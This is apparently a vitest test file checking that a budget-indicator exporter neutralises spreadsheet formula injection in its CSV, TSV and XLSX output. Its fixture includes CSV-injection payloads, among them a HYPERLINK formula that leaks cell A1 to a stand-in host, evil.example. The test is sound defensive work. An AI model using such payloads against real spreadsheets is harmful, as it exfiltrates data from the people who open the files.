// Exports are safe to open (issue 18, item 6): a cell a spreadsheet would run as a formula is
// written so that it reads as text. CSV and TSV put an apostrophe in front (OWASP "CSV Injection")
// and are read back with csv-parse; the workbook is read back with exceljs.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { Extraction, Indicator } from '../schemas/extraction.ts';
import { neutralizeFormula, toCsv, toTsv } from './delimited.ts';
import { COLUMNS } from './rows.ts';
import { SHEET_NAME, toXlsx } from './xlsx.ts';

const indicator = (fields: Partial<Indicator>): Indicator => ({
  level1: '产出指标',
  level2: '数量指标',
  name: null,
  description: null,
  value: { raw: '', kind: 'empty', op: null, number: null, unit: null },
  basis: null,
  remark: null,
  fundingLine: null,
  ...fields,
});

/** The hostile or merely unlucky cells: each sits in a text column, one row per indicator. */
const extraction: Extraction = {
  schemaVersion: '1',
  source: { filename: null, format: 'text', ocr: false, pages: null, sha256: '0'.repeat(64) },
  document: {
    unit: null,
    year: 2024,
    overallGoal: null,
    departmentBudget: null,
    objectives: [],
    projects: [
      {
        title: null,
        code: '-',
        name: '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
        unit: { code: '101', name: '@某单位' },
        owner: null,
        budget: { total: -5, fiscal: 10, other: null },
        purpose: '购置设备, 含"运维"',
        spendingPlan: null,
        goals: ['－5%'],
        indicators: [
          indicator({
            name: '=1+1',
            description: '+86 10 1234',
            value: { raw: '-5%', kind: 'numeric', op: null, number: -5, unit: '%' },
            basis: '@SUM(A1)',
            remark: '\t=cmd',
          }),
          indicator({
            name: '满意度',
            description: ' =1+1',
            value: { raw: '=100%', kind: 'numeric', op: '=', number: 100, unit: '%' },
            basis: '=1+2",=1+2\t=3',
            remark: '他说"好",\t然后',
          }),
        ],
      },
    ],
  },
  warnings: [],
  findings: [],
};

/** What a person should read in each text cell, as the spreadsheet stores it (no apostrophe). */
const TEXT: Record<string, [string, string]> = {
  项目名称: ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', '=HYPERLINK("http://evil.example/?q="&A1,"点我")'],
  项目编码: ['-', '-'],
  单位名称: ['@某单位', '@某单位'],
  资金用途: ['购置设备, 含"运维"', '购置设备, 含"运维"'],
  绩效目标: ['－5%', '－5%'],
  三级指标: ['=1+1', '满意度'],
  绩效指标描述: ['+86 10 1234', ' =1+1'],
  指标值: ['-5%', '=100%'],
  计算符号: ['', '='],
  指标值确定依据: ['@SUM(A1)', '=1+2",=1+2\t=3'],
  备注: ['\t=cmd', '他说"好",\t然后'],
};

/** The cells a spreadsheet could run, each of which the CSV and TSV must mark. */
const MARKED = new Set(['=HYPERLINK("http://evil.example/?q="&A1,"点我")', '-', '@某单位', '－5%', '=1+1', '+86 10 1234', ' =1+1', '-5%', '=100%', '=', '@SUM(A1)', '=1+2",=1+2\t=3', '\t=cmd']);

const column = (header: string): number => COLUMNS.findIndex((c) => c.header === header);

describe.each([
  ['CSV', () => toCsv(extraction), ','],
  ['TSV', () => toTsv(extraction), '\t'],
] as const)('%s export', (_name, write, delimiter) => {
  const records = parse(write(), { bom: true, delimiter, relax_column_count: false }) as string[][];

  it('reads back as the header and one record per indicator, every record as wide as the header', () => {
    expect(records).toHaveLength(3);
    expect(records[0]).toEqual(COLUMNS.map((c) => c.header));
    for (const record of records) expect(record).toHaveLength(COLUMNS.length);
  });

  it('puts an apostrophe before every cell a spreadsheet would run, and leaves the rest as written', () => {
    for (const [header, texts] of Object.entries(TEXT)) {
      texts.forEach((text, row) => {
        const expected = MARKED.has(text) ? `'${text}` : text;
        expect(records[row + 1]![column(header)], `${header}, row ${row + 1}`).toBe(expected);
      });
    }
    expect(records[1]![column('指标值')]).toBe("'-5%");
    expect(records[2]![column('指标值')]).toBe("'=100%");
    expect(records[1]![column('备注')]).toBe("'\t=cmd");
  });

  it('writes numbers as numbers, a negative one unmarked', () => {
    expect(records[1]![column('预算数（万元）')]).toBe('-5');
    expect(records[1]![column('数值')]).toBe('-5');
    expect(records[2]![column('数值')]).toBe('100');
    expect(records[1]![column('序号')]).toBe('1');
  });

  it('begins no text cell of the file with a formula character', () => {
    for (const record of records) {
      record.forEach((cell, index) => {
        if (!COLUMNS[index]!.numeric) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]|^\s+[=+\-@]/u);
      });
    }
  });
});

describe('neutralizeFormula', () => {
  it('marks = + - @, tab, carriage return and NUL at the start, and their full-width forms', () => {
    for (const text of ['=1+1', '+86', '-5%', '@SUM(A1)', '\t=cmd', '\rx', '\0x', '＝1+1', '＋86', '－5%', '＠SUM(A1)', '﹦1', ' =1+1', '\u3000=1+1', '\n-1'])
      expect(neutralizeFormula(text)).toBe(`'${text}`);
  });

  it('leaves other text alone, formula characters after the start included', () => {
    for (const text of ['', '≥95%', '100%', '1+1=2', "'=1", '满意度≥90%', '−5', ' 5', '%5', 'a=b'])
      expect(neutralizeFormula(text)).toBe(text);
  });
});

describe('XLSX export', () => {
  const sheet = async (): Promise<ExcelJS.Worksheet> => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx(extraction)).buffer as ArrayBuffer);
    return workbook.getWorksheet(SHEET_NAME)!;
  };

  it('writes every text cell as a plain string cell, never a formula, with no apostrophe', async () => {
    const read = await sheet();
    for (const [header, texts] of Object.entries(TEXT)) {
      texts.forEach((text, row) => {
        const cell = read.getRow(row + 2).getCell(column(header) + 1);
        expect(cell.type, `${header}, row ${row + 1}`).toBe(ExcelJS.ValueType.String);
        expect(cell.value).toBe(text);
        expect(cell.formula).toBeUndefined();
      });
    }
  });

  it('formats the text columns as text (@), so an edited cell stays text, and keeps numbers as numbers', async () => {
    const read = await sheet();
    for (const [index, c] of COLUMNS.entries()) {
      const cell = read.getRow(2).getCell(index + 1);
      if (c.numeric) {
        expect(cell.numFmt, c.header).not.toBe('@');
      } else {
        expect(cell.numFmt, c.header).toBe('@');
        expect(cell.type, c.header).toBe(ExcelJS.ValueType.String);
      }
    }
    expect(read.getRow(2).getCell(column('预算数（万元）') + 1).value).toBe(-5);
    expect(read.getRow(2).getCell(column('数值') + 1).value).toBe(-5);
    expect(read.getRow(3).getCell(column('数值') + 1).value).toBe(100);
    expect(read.getRow(1).getCell(1).font?.bold).toBe(true);
  });
});

describe('XLSX form sheets', () => {
  const form = async (): Promise<ExcelJS.Worksheet> => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx(extraction)).buffer as ArrayBuffer);
    return workbook.worksheets.find((sheet) => sheet.name !== SHEET_NAME)!;
  };
  const cells = (sheet: ExcelJS.Worksheet): ExcelJS.Cell[] => {
    const found: ExcelJS.Cell[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => found.push(cell)));
    return found;
  };

  it('writes every text of the project, hostile ones included, as a plain string cell formatted as text', async () => {
    const all = cells(await form());
    const project = extraction.document.projects[0]!;
    const hostile = [project.name, project.code, project.purpose, ...project.goals, ...project.indicators.flatMap((i) => [i.name, i.description, i.value.raw, i.basis, i.remark])];
    for (const text of hostile) {
      const cell = all.find((candidate) => candidate.value === text);
      expect(cell, String(text)).toBeDefined();
      expect(cell!.type).toBe(ExcelJS.ValueType.String);
      expect(cell!.numFmt).toBe('@');
    }
    for (const cell of all) {
      expect(cell.formula, cell.address).toBeUndefined();
      expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Number, ExcelJS.ValueType.Null, ExcelJS.ValueType.Merge], cell.address).toContain(cell.type);
    }
  });

  it('writes the amounts as numbers, a negative one too, and nothing else as a number', async () => {
    const numbers = cells(await form()).filter((cell) => cell.type === ExcelJS.ValueType.Number);
    expect(numbers.map((cell) => cell.value)).toEqual([-5, 10]);
  });
});

describe('a neutralised CSV read back', () => {
  it('reads as the values that were written: the reader drops the apostrophe a spreadsheet hides', async () => {
    const { readCsv } = await import('../ingest/sheet/read-csv.ts');
    const blocks = readCsv("指标值,名称\n'=100%,'-5%\n'=SUM(A1),'abc\n");
    const table = blocks.find((block) => block.kind === 'table');
    expect(table && table.kind === 'table' ? table.rows.map((row) => row.map((cell) => cell.text)) : null).toEqual([['指标值', '名称'], ['=100%', '-5%'], ['=SUM(A1)', "'abc"]]);
  });
});
